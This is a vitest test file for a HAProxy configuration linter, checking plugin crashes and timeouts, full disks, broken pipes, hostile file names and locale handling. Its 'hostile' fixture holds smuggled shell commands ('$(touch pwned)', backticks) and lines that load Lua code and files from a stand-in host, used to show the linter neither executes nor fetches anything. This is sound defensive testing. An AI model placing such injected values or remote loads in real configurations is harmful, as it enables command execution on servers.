import { execFile } from 'node:child_process';
import { chmodSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import { BROKEN, CLEAN, COMMAND, CUT_SHORT, haplint, project, type Run } from './haplint.js';

/** Runs a line of the shell in which $H is the command. */
function shell(line: string, cwd: string, env: Readonly<Record<string, string>> = {}): Promise<Run> {
  return new Promise((resolve) => {
    const all = { PATH: process.env.PATH ?? '', H: COMMAND, NODE: process.execPath, ...env };
    execFile('/bin/bash', ['--norc', '-c', line.replaceAll('$H', '"$NODE" "$H"')], { cwd, env: all }, (error, stdout, stderr) =>
      resolve({ status: error === null ? 0 : Number(error.code), stdout, stderr }),
    );
  });
}

/** A project with a plugin whose module is `head`, and whose one rule does `body` when it is shown a file. */
function withPlugin(body: string, head = ''): string {
  return project({
    'a.cfg': CLEAN,
    'p.mjs': `${head}
export default { rules: { x: { meta: { type: 'problem', docs: { description: 'x' }, severity: 'warn', messages: {} },
  create: (context) => ({ ${body} }) } } };`,
    '.haplintrc.json': '{"plugins":{"p":"./p.mjs"},"rules":{"p/x":"warn"}}',
  });
}

describe('a plugin that', () => {
  it.each([
    ['ends the process', 'ConfigFile() { process.exit(0); }', '', 'it was ended before it was done'],
    ['waits for ever', '', 'await new Promise(() => {});', 'it was ended before it was done'],
    ['fails later', 'ConfigFile() { setTimeout(() => { throw new Error("too late"); }); }', '', 'Error: too late\n'],
    ['rejects', 'async ConfigFile() { throw new Error("async"); }', '', 'Error: async\n'],
  ])('%s makes no clean run', async (_, body, head, words) => {
    const run = await haplint(['--target', '3.2', 'a.cfg'], { cwd: withPlugin(body, head) });
    expect(run).toMatchObject({ status: 2, stdout: '' });
    expect(run.stderr).toContain(words);
  });

  it.skipIf(process.platform === 'win32')('loops is named when the time is over', async () => {
    const run = await haplint(['--target', '3.2', '--timeout', '1', 'a.cfg'], { cwd: withPlugin('ConfigFile() { for (;;); }') });
    const stderr = 'haplint: not done after 1 s (--timeout), so it was ended; the rule "p/x" was at work on a.cfg\n';
    expect(run).toMatchObject({ status: 2, stdout: '', stderr });
  });

  it.skipIf(process.platform === 'win32')('loops where it is loaded is ended too', async () => {
    const run = await haplint(['--target', '3.2', '--timeout', '1', 'a.cfg'], { cwd: withPlugin('', 'for (;;);') });
    const stderr = 'haplint: not done after 1 s (--timeout), so it was ended; no rule was at work\n';
    expect(run).toMatchObject({ status: 2, stdout: '', stderr });
  });

  it('is done in time is as without a limit', async () => {
    const cwd = project({ 'a.cfg': BROKEN });
    const limited = await haplint(['--target', '3.2', '--timeout', '60', '--format', 'json', 'a.cfg'], { cwd });
    expect(limited).toEqual(await haplint(['--target', '3.2', '--format', 'json', 'a.cfg'], { cwd }));
    expect(limited.status).toBe(1);
  });

  it('empties the tree hides nothing', async () => {
    const cwd = withPlugin('ConfigFile(node) { node.sections.length = 0; }');
    writeFileSync(path.join(cwd, 'a.cfg'), 'global\n    maxcon 5\n');
    const run = await haplint(['--target', '3.2', '--format', 'compact', 'a.cfg'], { cwd });
    expect(run.status).toBe(2);
    expect(run.stdout).toContain('unknown-keyword');
    expect(run.stderr).toContain('the rule "p/x" failed');
  });
});

describe.skipIf(process.platform === 'win32')('where the system says no', () => {
  it('a file that cannot grow stays as it was', async () => {
    const before = `${'# a line\n'.repeat(20_000)}${CUT_SHORT}`;
    const cwd = project({ 'a.cfg': before });
    const run = await shell(`ulimit -f 20; NODE_DISABLE_COMPILE_CACHE=1 $H --target 3.2 --fix a.cfg`, cwd);
    const stderr = 'haplint: a.cfg: not mended, for it cannot be written: it would be larger than a file may be here\n';
    expect(run).toMatchObject({ status: 2, stderr });
    expect(run.stdout).toContain('missing-final-newline');
    expect(readFileSync(path.join(cwd, 'a.cfg'), 'utf8')).toBe(before);
    expect(readdirSync(cwd)).toEqual(['a.cfg']);
  });

  it.runIf(process.platform === 'linux').each(['--target 3.2 a.cfg', 'rules', 'graph a.cfg', 'explain unknown-keyword'])(
    'a full device is a failure: %s',
    async (args) => {
      const run = await shell(`$H ${args} > /dev/full`, project({ 'a.cfg': BROKEN }));
      expect(run).toEqual({ status: 2, stdout: '', stderr: 'haplint: cannot write what was found: no space is left on the device\n' });
    },
  );

  it.each(['rules', '--help', '--format json --no-detect a.cfg', 'graph a.cfg', 'completion bash', 'upgrade --from 2.6 --to 3.2 a.cfg'])(
    'a reader that goes away is no reason for words: %s',
    async (args) => {
      const cwd = project({ 'a.cfg': `# haplint target: 3.2\n${CLEAN}${'    maxcon 1\n'.repeat(3000)}` });
      expect((await shell(`$H ${args} | head -c 1 > out; exit 0`, cwd)).stderr).toBe('');
    },
  );

  it('a slow reader gets all of it, and the status', async () => {
    const cwd = project({ 'a.cfg': `${CLEAN}${'    maxcon 1\n'.repeat(3000)}` });
    const line = '$H --target 3.2 --format json a.cfg | (sleep 1; cat > out); exit ${PIPESTATUS[0]}';
    expect(await shell(line, cwd)).toEqual({ status: 1, stdout: '', stderr: '' });
    const [result] = JSON.parse(readFileSync(path.join(cwd, 'out'), 'utf8')) as { errorCount: number }[];
    expect(result?.errorCount).toBe(3000);
  });
});

describe('names of files', () => {
  it('may hold what a terminal would act on, and begin with a dash', async () => {
    const names = ['new\nline\u001b[31m.cfg', '-dash.cfg', '--.cfg', '\u202etxt.cfg', 'q\'u"ote.cfg'];
    const cwd = project(Object.fromEntries(names.map((name) => [name, BROKEN])));
    for (const format of ['stylish', 'compact', 'checkstyle', 'junit', 'markdown', 'github', 'html']) {
      const run = await haplint(['--target', '3.2', '--format', format, '.'], { cwd });
      expect(run.status).toBe(1);
      expect(run.stdout).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f\u202e]/);
    }
    const one = await haplint(['--target', '3.2', '--format', 'json', '--', '-dash.cfg', '--.cfg'], { cwd });
    expect(JSON.parse(one.stdout).map(({ filePath }: { filePath: string }) => path.basename(filePath))).toEqual(['-dash.cfg', '--.cfg']);
  });

  it.runIf(process.platform === 'linux')('that are no UTF-8 are told of, and the others are checked', async () => {
    const cwd = project({ 'a.cfg': BROKEN });
    const run = await shell(`cp a.cfg $'b\\xff.cfg'; $H --target 3.2 .`, cwd);
    const stderr = 'haplint: b\ufffd.cfg: cannot read it: its name has bytes that are no UTF-8; rename it to have it checked\n';
    expect(run).toMatchObject({ status: 2, stderr });
    expect(run.stdout).toContain('a.cfg');
  });
});

it('writes UTF-8, whatever the locale', async () => {
  const cwd = project({ 'a.cfg': BROKEN });
  const inC = await haplint(['--target', '3.2', 'a.cfg'], { cwd, env: { LC_ALL: 'C' } });
  expect(inC).toEqual(await haplint(['--target', '3.2', 'a.cfg'], { cwd, env: { LC_ALL: 'C.UTF-8' } }));
});

describe('what a configuration says', () => {
  const PRELOAD = fileURLToPath(new URL('no-network.mjs', import.meta.url));
  const hostile = `# haplint target: 3.2
global
    external-check
    lua-load http://192.0.2.1/x.lua
    ssl-load-extra-files all
    master-worker
defaults
    mode http
    timeout connect 1s
    timeout client 1s
    timeout server 1s
resolvers r
    parse-resolv-conf
    nameserver a 192.0.2.1:53
backend b
    option external-check
    external-check command /bin/touch
    server s "\${HOST-$(touch pwned)}":80 check resolvers r
    errorfile 503 http://192.0.2.1/503
    http-request set-header X "\`touch pwned\`%[src,map(http://192.0.2.1/m)]"
    acl a src -f http://192.0.2.1/list -f /dev/zero
    http-request deny if a
`;

  it.each([
    ['a.cfg'],
    ['--preset', 'all', '--format', 'html', 'a.cfg'],
    ['--fix-dry-run', 'a.cfg'],
    ['format', 'a.cfg'],
    ['graph', 'a.cfg'],
    ['upgrade', '--from', '2.6', '--to', '3.2', 'a.cfg'],
    ['explain', 'unknown-keyword'],
    ['advisories', '--target', '3.0.3'],
    ['rules'],
  ])('is neither run nor fetched, nor is anything else: %s', async (...args) => {
    const cwd = project({ 'a.cfg': hostile });
    const run = await shell(`$H ${args.join(' ')}`, cwd, { NODE_OPTIONS: `--import=${PRELOAD}` });
    expect(run.stderr).not.toContain('FORBIDDEN');
    expect(run.stderr).not.toContain('bug in haplint');
    expect(run.status).toBeLessThan(2);
    expect(readdirSync(cwd)).not.toContain('pwned');
  });

  it('the one program that is started is haproxy, with -v', async () => {
    const cwd = project({ 'a.cfg': CLEAN, 'bin/haproxy': '#!/bin/sh\necho "HAProxy version 3.0.3 2024/07/11"; echo "$@" >> asked\n' });
    chmodSync(path.join(cwd, 'bin/haproxy'), 0o755);
    const run = await shell(`PATH="$PWD/bin:$PATH"; $H a.cfg`, cwd, { NODE_OPTIONS: `--import=${PRELOAD}` });
    expect(run).toMatchObject({ status: 0, stderr: 'haplint: target 3.0.3, from haproxy on PATH\n' });
    expect(readFileSync(path.join(cwd, 'asked'), 'utf8')).toBe('-v\n');
  });

  it('is not watched in vain: the preload sees a connection', async () => {
    const cwd = withPlugin('ConfigFile() { import("node:net").then((net) => net.connect(9)); }');
    const run = await shell(`$H --target 3.2 a.cfg`, cwd, { NODE_OPTIONS: `--import=${PRELOAD}` });
    expect(run.status).toBe(2);
    expect(run.stderr).toContain('FORBIDDEN: net.connect');
  });
});
